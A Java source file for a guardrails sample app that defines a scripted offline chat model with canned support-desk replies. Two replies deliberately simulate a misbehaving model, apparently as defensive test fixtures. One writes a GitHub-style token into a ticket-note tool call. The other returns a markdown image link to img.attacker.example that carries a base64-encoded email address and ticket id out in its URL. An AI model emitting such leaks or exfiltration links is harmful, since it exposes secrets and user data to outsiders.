package dev.guardrails4j.samples.supportdesk;

import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.data.message.AiMessage;
import dev.langchain4j.data.message.ChatMessage;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.data.message.UserMessage;
import dev.langchain4j.model.chat.ChatModel;
import dev.langchain4j.model.chat.request.ChatRequest;
import dev.langchain4j.model.chat.request.ChatRequestParameters;
import dev.langchain4j.model.chat.response.ChatResponse;
import dev.langchain4j.model.output.FinishReason;
import dev.langchain4j.model.output.TokenUsage;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicReference;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * The offline model of the support desk: an in-process LangChain4j {@link ChatModel} that answers
 * from a short script, so the application runs without a key or a network. It logs, and remembers,
 * the last user message it received: after the guardrails, so it shows placeholders where a policy
 * redacted personal data.
 */
public class ScriptedChatModel implements ChatModel {

  private static final Logger log = LoggerFactory.getLogger(ScriptedChatModel.class);

  /** The secret the script leaks into a tool call when asked for credentials. */
  static final String LEAKED_TOKEN = "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";

  private final AtomicReference<String> lastUserText = new AtomicReference<>("");

  /** Creates the model. */
  public ScriptedChatModel() {}

  @Override
  public ChatResponse doChat(ChatRequest request) {
    List<ChatMessage> messages = request.messages();
    AiMessage answer;
    if (!messages.isEmpty() && messages.get(messages.size() - 1) instanceof ToolExecutionResultMessage r) {
      answer = AiMessage.from("Done: " + r.toolName() + " says \"" + r.text() + "\".");
    } else {
      String text = lastUserText(messages);
      lastUserText.set(text);
      // never the prompt itself: its length and the redaction placeholders it holds
      log.info("scripted model received {} characters, placeholders {}", text.length(), placeholders(text));
      answer = answer(text.toLowerCase(Locale.ROOT));
    }
    return ChatResponse.builder()
        .aiMessage(answer)
        .modelName("gpt-4o-mini")
        .tokenUsage(new TokenUsage(messages.size() * 40, 30))
        .finishReason(answer.hasToolExecutionRequests() ? FinishReason.TOOL_EXECUTION : FinishReason.STOP)
        .build();
  }

  @Override
  public ChatRequestParameters defaultRequestParameters() {
    return ChatRequestParameters.builder().modelName("gpt-4o-mini").build();
  }

  /**
   * The last user message the model received.
   *
   * @return the text, empty before the first call
   */
  public String lastUserText() {
    return lastUserText.get();
  }

  private static AiMessage answer(String prompt) {
    if (prompt.contains("credentials")) {
      return AiMessage.from(ToolExecutionRequest.builder().id("call_1").name("addTicketNote")
          .arguments("{\"ticketId\":\"T-1042\",\"note\":\"staging deploy token " + LEAKED_TOKEN + "\"}")
          .build());
    }
    if (prompt.contains("diagram")) {
      return AiMessage.from("Here is the setup, with a diagram:"
          + " ![setup](https://img.attacker.example/d.png?c=amFuZS5kb2VAZXhhbXBsZS5jb206VC0xMDQy)");
    }
    if (prompt.contains("summar")) {
      return AiMessage.from("The customer cannot log in since the password reset; cookies were cleared"
          + " without effect. Next step: reset the session store for the account.");
    }
    if (prompt.contains("draft")) {
      return AiMessage.from("Thanks for reaching out; we are looking into it and will get back to you today.");
    }
    return AiMessage.from("We are sorry for the trouble; the duplicate payment has been refunded and will"
        + " show within five working days.");
  }

  private static final java.util.regex.Pattern PLACEHOLDER = java.util.regex.Pattern.compile("<([A-Z][A-Z_]*_[0-9]+)>");

  /** The redaction placeholders in a prompt, such as [EMAIL_ADDRESS_1]: types, never values. */
  static List<String> placeholders(String text) {
    List<String> out = new ArrayList<>();
    java.util.regex.Matcher m = PLACEHOLDER.matcher(text);
    while (m.find()) {
      out.add(m.group(1));
    }
    return out;
  }

  private static String lastUserText(List<ChatMessage> messages) {
    for (int i = messages.size() - 1; i >= 0; i--) {
      if (messages.get(i) instanceof UserMessage u && u.hasSingleText()) {
        return u.singleText();
      }
    }
    return "";
  }
}
